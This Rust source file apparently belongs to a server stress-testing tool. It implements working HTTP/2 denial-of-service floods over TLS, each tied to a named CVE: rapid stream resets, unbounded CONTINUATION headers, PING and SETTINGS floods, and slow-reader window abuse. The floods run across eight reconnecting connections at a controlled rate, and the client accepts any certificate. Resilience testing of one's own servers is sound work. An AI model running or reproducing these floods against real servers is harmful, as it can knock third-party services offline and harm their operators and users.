//! HTTP/2 over TLS, written by hand (RFC 9113) so that it can be said as no client would, on some connections at a time.

use crate::peer::{self, Failure};
use crate::rate::Rate;
use crate::{Task, closed};
use godwit::rustls::ClientConfig as TlsConfig;
use std::cell::Cell;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio_rustls::TlsConnector;

/// A flood of frames.
struct Kind {
    name: &'static str,
    /// What is said once, behind the settings.
    begun: fn(&mut Vec<u8>),
    /// What is said of a number, which counts from 0 on each connection, and again and again until there are so many bytes.
    more: fn(u32, &mut Vec<u8>),
    at_once: usize,
    /// Whether what comes is read.
    reads: bool,
}

const fn kind(name: &'static str, more: fn(u32, &mut Vec<u8>), at_once: usize) -> Kind {
    Kind { name, begun: |_| {}, more, at_once, reads: true }
}

const KINDS: [Kind; 5] = [
    // Requests that are given up at once (CVE-2023-44487).
    kind("h2-resets", reset_request, 1),
    // Headers without end (CVE-2024-27316, CVE-2023-45288).
    Kind { begun: |bytes| request(1, 0, SMALL, bytes), ..kind("h2-continuations", continuation, 1000) },
    kind("h2-pings", ping, 1000),
    kind("h2-settings", settings, 1000),
    // Much that is asked for and not taken (CVE-2019-9517).
    Kind { begun: large_requests, reads: false, ..kind("h2-slow-readers", ping, 1) },
];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// The path of the small file and of the large one (RFC 7541, section 6.2.2).
const SMALL: &[u8] = b"\x04\x06/small";
const BIG: &[u8] = b"\x04\x04/big";
/// Requests that a connection of `h2-slow-readers` makes, as many as servers take.
const REQUESTS: u32 = 100;
/// Connections at a time.
const CONNECTIONS: u32 = 8;
const LARGEST_WINDOW: u32 = 0x7fff_ffff;

pub(crate) fn names() -> impl Iterator<Item = &'static str> {
    KINDS.iter().map(|kind| kind.name)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], bytes: &mut Vec<u8>) {
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    bytes.extend_from_slice(&length);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// A request for a file (RFC 7541: indexed fields, and literal ones that are not indexed).
fn request(stream: u32, flags: u8, path: &[u8], bytes: &mut Vec<u8>) {
    let fields = [b"\x82\x87", path, b"\x01\x09localhost"].concat();
    frame(HEADERS, END_STREAM | flags, stream, &fields, bytes);
}

/// The large file as often as it may be asked for, with the largest windows.
fn large_requests(bytes: &mut Vec<u8>) {
    let window = LARGEST_WINDOW.to_be_bytes();
    frame(SETTINGS, 0, 0, &[&[0, 4], &window[..]].concat(), bytes);
    frame(WINDOW_UPDATE, 0, 0, &(LARGEST_WINDOW - 65_535).to_be_bytes(), bytes);
    for number in 0..REQUESTS {
        request(number * 2 + 1, END_HEADERS, BIG, bytes);
    }
}

fn ping(_: u32, bytes: &mut Vec<u8>) {
    frame(PING, 0, 0, &[0; 8], bytes);
}

fn reset_request(number: u32, bytes: &mut Vec<u8>) {
    let stream = number * 2 + 1;
    request(stream, END_HEADERS, SMALL, bytes);
    frame(RST_STREAM, 0, stream, &CANCEL, bytes);
}

/// More fields of the first request.
fn continuation(_: u32, bytes: &mut Vec<u8>) {
    frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b", bytes);
}

/// Another window for streams each time (SETTINGS_INITIAL_WINDOW_SIZE), to be acknowledged.
fn settings(number: u32, bytes: &mut Vec<u8>) {
    let [_, _, high, low] = (number % 0xffff).to_be_bytes();
    frame(SETTINGS, 0, 0, &[0, 4, 0, 0, high, low], bytes);
}

/// How often a flood said something; none for a name that is none.
pub(crate) fn run(kind: &str, task: Task) -> Option<Result<u64, String>> {
    let kind = KINDS.iter().find(|known| known.name == kind)?;
    let runtime = match tokio::runtime::Builder::new_current_thread().enable_all().build() {
        Ok(runtime) => runtime,
        Err(error) => return Some(Err(error.to_string())),
    };
    let local = tokio::task::LocalSet::new();
    Some(runtime.block_on(local.run_until(flood(kind, task))).map_err(|error| error.to_string()))
}

async fn flood(kind: &'static Kind, task: Task) -> Result<u64, Failure> {
    let tls = Arc::new(peer::any_certificate(godwit::crypto_provider(), b"h2")?);
    let count = task.count.map(|count| count.div_ceil(CONNECTIONS.into()));
    let each = Task { rate: task.rate.div_ceil(CONNECTIONS), count, ..task };
    let said = Rc::new(Cell::new(0));
    let peers: Vec<_> = (0..CONNECTIONS)
        .map(|_| {
            let (tls, said) = (Arc::clone(&tls), Rc::clone(&said));
            tokio::task::spawn_local(async move { again_and_again(kind, each, &tls, &said).await })
        })
        .collect();
    for peer in peers {
        peer.await?;
    }
    Ok(said.get())
}

/// Whoever is thrown out comes back from somewhere else.
async fn again_and_again(kind: &Kind, task: Task, tls: &Arc<TlsConfig>, said: &Cell<u64>) {
    let mut rate = Rate::new(task);
    while !rate.is_over() {
        if let Err(why) = once(kind, task, &mut rate, tls, said).await {
            closed(&why);
            if rate.turn().await {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        }
    }
}

async fn once(
    kind: &Kind,
    task: Task,
    rate: &mut Rate,
    tls: &Arc<TlsConfig>,
    said: &Cell<u64>,
) -> Result<(), Failure> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(peer::address()?.into())?;
    if !kind.reads {
        socket.set_recv_buffer_size(4096)?;
    }
    let connect = async {
        let stream = socket.connect(task.server).await?;
        TlsConnector::from(Arc::clone(tls))
            .connect("localhost".try_into()?, stream)
            .await
            .map_err(Failure::from)
    };
    let stream = tokio::time::timeout(Duration::from_secs(2), connect).await??;
    let (heard, mut stream) = tokio::io::split(stream);
    let reads = kind.reads;
    let heard = tokio::task::spawn_local(async move {
        if !reads {
            // It stays open.
            std::future::pending::<()>().await;
        }
        forget(heard).await;
    });
    let mut bytes = PREFACE.to_vec();
    frame(SETTINGS, 0, 0, &[], &mut bytes);
    (kind.begun)(&mut bytes);
    let mut number = 0;
    while rate.turn().await {
        let enough = bytes.len() + kind.at_once;
        while bytes.len() < enough {
            (kind.more)(number, &mut bytes);
            number += 1;
        }
        tokio::time::timeout(Duration::from_secs(1), stream.write_all(&bytes)).await??;
        bytes.clear();
        said.set(said.get() + 1);
        if heard.is_finished() {
            return Err("the server has closed the connection".into());
        }
    }
    heard.abort();
    Ok(())
}

/// Reads what comes, until the end.
async fn forget(mut stream: impl AsyncRead + Unpin) {
    let mut bytes = vec![0; 1 << 14];
    while stream.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
}
